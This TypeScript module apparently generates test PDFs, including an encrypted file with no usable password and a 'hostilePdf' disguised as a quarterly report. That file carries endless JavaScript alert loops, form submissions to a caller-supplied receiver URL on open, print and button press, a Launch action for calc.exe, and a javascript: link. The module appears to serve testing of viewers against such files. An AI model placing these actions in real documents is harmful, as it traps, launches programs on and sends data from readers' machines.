/** Generates PDFs with correct offsets, so that no viewer has to repair them. */

interface PdfParts {
  /** One line of text for each page. */
  pages: readonly string[];
  /** More entries of the catalogue, e.g. an action on opening. */
  catalog?: string;
  /** Annotations of the first page, as the contents of an array. */
  annotations?: string;
}

const pageHeight = 500;

function objectsOf({ pages, catalog = '', annotations = '' }: PdfParts): string[] {
  const pageNumber = (index: number) => 4 + index * 2;
  const drawn = pages.flatMap((line, index) => {
    const text = `BT /F1 24 Tf 40 ${pageHeight - 80} Td (${line.replace(/[()\\]/g, '')}) Tj ET`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 ${pageHeight}] /Contents ${pageNumber(index) + 1} 0 R ` +
        `/Resources << /Font << /F1 3 0 R >> >> ${index === 0 ? `/Annots [${annotations}]` : ''} >>`,
      `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    ];
  });
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${pages.map((_, index) => `${pageNumber(index)} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...drawn,
  ];
}

function serialize(objects: readonly string[], trailer = ''): Buffer {
  let body = '%PDF-1.7\n';
  const offsets = objects.map((content, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${content}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(body + table + end, 'latin1');
}

export const pdfOf = (parts: PdfParts): Buffer => serialize(objectsOf(parts));

/** A PDF whose password is unknown: no viewer can derive its key. */
export function lockedPdf(): Buffer {
  const key = 'ab'.repeat(32);
  const encryption = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >> /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`;
  return serialize(objectsOf({ pages: ['Secret'] }), encryption);
}

const script = (code: string) => `<< /S /JavaScript /JS (${code.replace(/[()\\]/g, '\\$&')}) >>`;
const submit = (url: string) => `<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`;
const whole = `/Rect [0 0 400 ${pageHeight}]`;

/** A PDF that shows endless dialogs, opens a program and a page, and sends a form: on opening, for each page, and when it is pressed. */
export function hostilePdf(receiver: string): Buffer {
  const endless = script(`for(;;) app.alert("trapped"); this.submitForm("${receiver}/script");`);
  return pdfOf({
    pages: ['Quarterly report', 'Second page'],
    catalog: `/OpenAction ${endless} /AA << /WC ${endless} /DP ${submit(`${receiver}/print`)} >> /Names << /JavaScript << /Names [(a) ${endless}] >> >>`,
    annotations: [
      `<< /Type /Annot /Subtype /Link ${whole} /A ${script('app.alert("pressed");')} >>`,
      `<< /Type /Annot /Subtype /Link ${whole} /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>`,
      `<< /Type /Annot /Subtype /Link ${whole} /A << /S /URI /URI (mailto:victim@example.com) >> >>`,
      `<< /Type /Annot /Subtype /Link ${whole} /A << /S /Launch /F (calc.exe) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) ${whole} /A ${submit(`${receiver}/button`)} /AA << /PO ${endless} /E ${endless} >> >>`,
      '<< /Type /Annot /Subtype /Link /Rect [40 40 200 80] /A << /S /URI /URI (https://example.com/report) >> >>',
    ].join(' '),
  });
}
